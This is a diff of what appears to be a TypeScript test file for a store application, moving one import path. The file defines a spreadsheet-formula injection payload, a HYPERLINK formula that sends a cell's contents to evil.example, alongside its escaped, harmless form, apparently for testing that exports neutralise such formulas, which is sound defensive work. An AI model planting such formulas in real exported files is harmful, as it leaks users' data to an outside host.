@@ -1,6 +1,6 @@
 import { type Person, sampleOrder, sampleProduct, signUpAdmin, storeProducts } from '../../test/samples';
 import { startTestApp, type TestApp } from '../../test/test-app';
-import { insertProducts } from '../product/product-import';
+import { insertProducts } from '../seed/product-import';
 
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 const HARMLESS = '"\'=HYPERLINK(""https://evil.example?""&A1,""Click"")"';
